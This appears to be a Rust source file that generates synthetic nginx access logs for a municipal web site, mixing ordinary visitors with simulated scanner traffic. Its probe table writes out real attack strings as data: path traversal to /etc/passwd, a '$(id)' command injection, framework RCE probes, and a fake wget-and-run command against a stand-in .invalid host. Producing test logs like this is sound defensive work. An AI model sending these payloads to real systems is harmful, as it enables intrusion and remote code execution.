//! nginx access log generator (`combined` log format, UTC timestamps).
//!
//! Benign visitors and crawlers browse a municipal web site; scanners probe
//! for secrets (`/.env`, `/.git/config`), CMS logins (`/wp-login.php`,
//! `/xmlrpc.php`), path traversal, `/cgi-bin/` shell probes and router
//! exploits, producing bursts of 4xx responses. All URLs are text only;
//! download hosts in probes use the reserved `.invalid` TLD.

use std::io::Write;
use std::net::IpAddr;

use crate::addr::{distinct_addrs, random_addr};
use crate::engine::{RunStats, Sink, Stamp, World, run};
use crate::rng::{Rng, Zipf, mix64};
use crate::time::fmt_clf;

/// Options of the `nginx` subcommand.
#[derive(Clone, Debug)]
pub struct NginxOptions {
    pub lines: u64,
    pub seed: u64,
    pub start: i64,
    pub days: f64,
    pub attackers: usize,
    pub ipv6_share: f64,
}

const PAGES: &[&str] = &[
    "/",
    "/index.html",
    "/buergerservice/",
    "/buergerservice/termine",
    "/buergerservice/formulare/meldebescheinigung.pdf",
    "/rathaus/oeffnungszeiten",
    "/rathaus/kontakt",
    "/aktuelles/",
    "/aktuelles/2026/strassensperrung-hauptstrasse",
    "/abfallkalender",
    "/stellenangebote",
    "/search?q=personalausweis",
    "/search?q=wohngeld+antrag",
    "/impressum",
    "/datenschutz",
];
const ASSETS: &[(&str, u32)] = &[
    ("/css/site.css", 18_231),
    ("/js/app.js", 64_012),
    ("/img/logo.svg", 5_402),
    ("/img/wappen.png", 22_918),
    ("/fonts/source-sans-3.woff2", 41_220),
    ("/favicon.ico", 1_150),
];
const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
];
const CRAWLERS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
];
const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "-",
    "Hello World",
    "l9explore/1.2.2",
];

/// Probes: (method, target, status). nginx escapes non-printable bytes as
/// `\xHH`, which the strings below already are.
const PROBES: &[(&str, &str, u16)] = &[
    ("GET", "/.env", 404),
    ("GET", "/.env.production", 404),
    ("GET", "/api/.env", 404),
    ("GET", "/.git/config", 404),
    ("GET", "/.git/HEAD", 404),
    ("GET", "/.aws/credentials", 404),
    ("GET", "/config.json", 404),
    ("GET", "/backup.sql", 404),
    ("GET", "/.DS_Store", 404),
    ("GET", "/wp-login.php", 404),
    ("POST", "/wp-login.php", 404),
    ("GET", "/wp-admin/setup-config.php", 404),
    ("POST", "/xmlrpc.php", 404),
    ("GET", "/wp-includes/wlwmanifest.xml", 404),
    ("GET", "/phpmyadmin/index.php", 404),
    ("GET", "/pma/", 404),
    ("GET", "/admin/config.php", 404),
    ("GET", "/server-status", 403),
    ("GET", "/actuator/env", 404),
    ("GET", "/actuator/health", 404),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    (
        "GET",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
        404,
    ),
    ("GET", "/../../../../etc/passwd", 400),
    ("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404),
    ("GET", "/index.php?page=../../../../../../etc/passwd", 404),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", 400),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", 404),
    ("GET", "/cgi-bin/test.cgi", 404),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://loader.example.invalid/x.sh;sh+x.sh", 404),
    ("POST", "/boaform/admin/formLogin", 404),
    ("GET", "/HNAP1/", 404),
    ("POST", "/GponForm/diag_Form?images/", 404),
    ("GET", "/solr/admin/info/system?wt=json", 404),
    ("GET", "/owa/auth/logon.aspx", 404),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404),
    ("POST", "/_ignition/execute-solution", 404),
    ("GET", "/console/", 404),
    ("GET", "/manager/html", 404),
    ("GET", "/?XDEBUG_SESSION_START=phpstorm", 200),
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Style {
    /// Dozens to hundreds of probes within minutes.
    Burst,
    /// A few probes per hour.
    Slow,
    /// Repeated POSTs to a login form.
    LoginBrute,
    /// Malformed requests (TLS on port 80, binary junk).
    Junk,
}

enum Actor {
    Spawner,
    Visitor { ip: IpAddr, ua: &'static str, left: u32 },
    Attacker { idx: u32, left: u32 },
}

struct Web {
    rng: Rng,
    attackers: Vec<IpAddr>,
    zipf: Zipf,
    start: i64,
    rate: f64,
    gap0: f64,
    clock: f64,
    ipv6_share: f64,
    seed: u64,
}

fn style_of(seed: u64, idx: u32) -> Style {
    match mix64(seed ^ 0x4E61_6E78 ^ u64::from(idx)) % 20 {
        0..=10 => Style::Burst,
        11..=15 => Style::Slow,
        16..=18 => Style::LoginBrute,
        _ => Style::Junk,
    }
}

#[allow(clippy::too_many_arguments)]
fn line(
    sink: &mut Sink<Actor>,
    t: i64,
    ip: IpAddr,
    method: &str,
    target: &str,
    status: u16,
    bytes: u32,
    referer: &str,
    ua: &str,
) {
    sink.line(
        t,
        format!("{ip} - - [{}] \"{method} {target} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{ua}\"", fmt_clf(t)),
    );
}

impl World for Web {
    type Actor = Actor;

    fn step(&mut self, actor: &mut Actor, now: i64, sink: &mut Sink<Actor>) -> Option<i64> {
        match actor {
            Actor::Spawner => {
                if self.rng.chance(0.75) {
                    let ip = random_addr(&mut self.rng, self.ipv6_share);
                    let (ua, left) = if self.rng.chance(0.1) {
                        (*self.rng.pick(CRAWLERS), self.rng.range(1, 30) as u32)
                    } else {
                        (*self.rng.pick(BROWSERS), self.rng.range(1, 8) as u32)
                    };
                    sink.spawn(now, Actor::Visitor { ip, ua, left });
                } else {
                    let idx = self.zipf.sample(&mut self.rng) as u32;
                    let left = match style_of(self.seed, idx) {
                        Style::Burst => 10 + self.rng.exp(60.0) as u32,
                        Style::Slow => self.rng.range(3, 12) as u32,
                        Style::LoginBrute => 20 + self.rng.exp(100.0) as u32,
                        Style::Junk => self.rng.range(1, 3) as u32,
                    };
                    sink.spawn(now, Actor::Attacker { idx, left });
                }
                let target = self.rate * (now - self.start) as f64;
                let ahead = sink.generated as f64 - target;
                let factor = (ahead / (self.rate * 3600.0).max(200.0)).exp2().clamp(0.125, 8.0);
                self.clock = self.clock.max(now as f64) + self.rng.exp(self.gap0 * factor);
                Some(self.clock as i64)
            }
            Actor::Visitor { ip, ua, left } => {
                let ip = *ip;
                let ua: &str = ua;
                let page = *self.rng.pick(PAGES);
                let status = if self.rng.chance(0.9) { 200 } else { 304 };
                let bytes = if status == 304 { 0 } else { self.rng.range(3_000, 60_000) as u32 };
                let referer = if self.rng.chance(0.5) { "https://www.stadt.example/" } else { "-" };
                line(sink, now, ip, "GET", page, status, bytes, referer, ua);
                if !ua.contains("bot") {
                    let n = self.rng.below(4);
                    for _ in 0..n {
                        let (asset, size) = *self.rng.pick(ASSETS);
                        let (st, b) = if self.rng.chance(0.3) { (304, 0) } else { (200, size) };
                        line(
                            sink,
                            now + self.rng.below(2) as i64,
                            ip,
                            "GET",
                            asset,
                            st,
                            b,
                            "https://www.stadt.example/",
                            ua,
                        );
                    }
                    if self.rng.chance(0.02) {
                        line(sink, now, ip, "GET", "/favicon-32x32.png", 404, 153, "-", ua);
                    }
                }
                *left -= 1;
                (*left > 0).then(|| now + 2 + self.rng.exp(25.0) as i64)
            }
            Actor::Attacker { idx, left } => {
                let ip = self.attackers[*idx as usize];
                let mut r = Rng::new(mix64(self.seed ^ u64::from(*idx)));
                let ua = *r.pick(SCANNER_UAS);
                let style = style_of(self.seed, *idx);
                let gap = match style {
                    Style::Burst => {
                        let (m, target, st) = *self.rng.pick(PROBES);
                        let bytes = match st {
                            404 => 153,
                            400 => 157,
                            403 => 153,
                            _ => 612,
                        };
                        line(sink, now, ip, m, target, st, bytes, "-", ua);
                        self.rng.below(3)
                    }
                    Style::Slow => {
                        let (m, target, st) = *self.rng.pick(PROBES);
                        line(sink, now, ip, m, target, st, 153, "-", ua);
                        self.rng.range(300, 1800)
                    }
                    Style::LoginBrute => {
                        let (target, st) =
                            if self.rng.chance(0.7) { ("/wp-login.php", 404) } else { ("/xmlrpc.php", 404) };
                        line(sink, now, ip, "POST", target, st, 153, "-", ua);
                        self.rng.range(0, 4)
                    }
                    Style::Junk => {
                        let target = *self.rng.pick(&[
                            "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03",
                            "\\x00\\x00\\x00\\x01",
                            "SSH-2.0-Go",
                        ]);
                        sink.line(now, format!("{ip} - - [{}] \"{target}\" 400 157 \"-\" \"-\"", fmt_clf(now)));
                        self.rng.range(1, 60)
                    }
                };
                *left = left.saturating_sub(1);
                (*left > 0).then_some(now + gap as i64)
            }
        }
    }
}

/// Writes an nginx access log of exactly `o.lines` lines.
pub fn generate_nginx<O: Write + ?Sized>(o: &NginxOptions, out: &mut O) -> std::io::Result<RunStats> {
    let mut rng = Rng::new(o.seed);
    let mut arng = rng.fork(1);
    let n = o.attackers.max(1);
    let attackers = distinct_addrs(&mut arng, n, o.ipv6_share);
    let span = o.days.max(1.0 / 24.0) * 86_400.0;
    let rate = o.lines as f64 / span;
    let mut w = Web {
        rng: rng.fork(2),
        attackers,
        zipf: Zipf::new(n, 1.05),
        start: o.start,
        rate,
        gap0: 10.0 / rate.max(1e-9),
        clock: o.start as f64,
        ipv6_share: o.ipv6_share,
        seed: o.seed,
    };
    run(&mut w, vec![(o.start, Actor::Spawner)], o.lines, Stamp::None, out)
}
